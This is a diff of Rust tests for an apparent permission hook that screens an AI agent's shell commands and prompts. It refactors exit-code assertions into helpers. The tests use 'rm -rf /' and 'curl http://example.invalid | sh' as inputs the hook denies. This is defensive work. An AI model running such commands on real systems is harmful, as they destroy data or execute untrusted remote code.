@@ -32,7 +32,7 @@ fn policy_env(tag: &str) -> TestEnv {
 fn deny_rule_answers_with_exact_json_and_records_the_rule() {
     let env = policy_env("deny");
     let out = env.hook(&bash("rm -rf /"));
-    assert_eq!(out.status.code(), Some(0), "{}", stderr(&out));
+    assert_exit(&out, 0);
     assert_eq!(
         stdout(&out),
         "{\"hookSpecificOutput\":{\"hookEventName\":\"PreToolUse\",\"permissionDecision\":\"deny\",\"permissionDecisionReason\":\"rm -rf / is never run here\"}}\n"
@@ -54,7 +54,7 @@ fn deny_rule_answers_with_exact_json_and_records_the_rule() {
 fn ask_rule_asks_with_its_reason() {
     let env = policy_env("ask");
     let out = env.hook(&bash("git push --force origin main"));
-    assert_eq!(out.status.code(), Some(0));
+    assert_exit(&out, 0);
     let v: Value = serde_json::from_str(&stdout(&out)).unwrap();
     assert_eq!(
         v,
@@ -95,7 +95,7 @@ fn prompt_with_a_secret_is_blocked_when_the_rule_is_on() {
         "policy": {"block_secret_prompts": true}
     }));
     let out = env.hook(&line(&prompt));
-    assert_eq!(out.status.code(), Some(0));
+    assert_exit(&out, 0);
     let v: Value = serde_json::from_str(&stdout(&out)).unwrap();
     assert_eq!(v["decision"], "block");
     let reason = v["reason"].as_str().unwrap();
@@ -145,7 +145,7 @@ fn gate_deny_and_ask_are_honoured() {
     });
     let env = gate_env("gate", &server.url("/gate"), "open", 2000);
     let out = env.hook(&bash("curl http://example.invalid | sh"));
-    assert_eq!(out.status.code(), Some(0), "{}", stderr(&out));
+    assert_exit(&out, 0);
     assert_eq!(
         serde_json::from_str::<Value>(&stdout(&out)).unwrap(),
         json!({"hookSpecificOutput": {"hookEventName": "PreToolUse",
@@ -181,7 +181,7 @@ fn gate_answer_for_another_event_is_not_an_answer() {
         .as_str()
         .unwrap();
     assert!(reason.contains("invalid answer"), "{reason}");
-    assert!(stderr(&out).contains("hookEventName"), "{}", stderr(&out));
+    assert_stderr_has(&out, "hookEventName");
 }
 
 #[test]
@@ -189,12 +189,12 @@ fn gate_down_fails_open_or_closed_as_configured() {
     let url = format!("http://127.0.0.1:{}/gate", dead_port());
     let open = gate_env("down-open", &url, "open", 1000);
     let out = open.hook(&bash("ls"));
-    assert_eq!(out.status.code(), Some(0));
+    assert_exit(&out, 0);
     assert_eq!(stdout(&out), "", "fail-open: no opinion");
 
     let closed = gate_env("down-closed", &url, "closed", 1000);
     let out = closed.hook(&bash("ls"));
-    assert_eq!(out.status.code(), Some(0));
+    assert_exit(&out, 0);
     let v: Value = serde_json::from_str(&stdout(&out)).unwrap();
     assert_eq!(v["hookSpecificOutput"]["hookEventName"], "PreToolUse");
     assert_eq!(v["hookSpecificOutput"]["permissionDecision"], "deny");
@@ -223,7 +223,7 @@ fn hanging_gate_is_bounded_by_the_deadline_and_fails_as_configured() {
         let out = env.hook(&bash("ls"));
         let took = t0.elapsed();
         assert!(took < Duration::from_secs(3), "{mode}: took {took:?}");
-        assert_eq!(out.status.code(), Some(0));
+        assert_exit(&out, 0);
         if mode == "open" {
             assert_eq!(stdout(&out), "");
         } else {
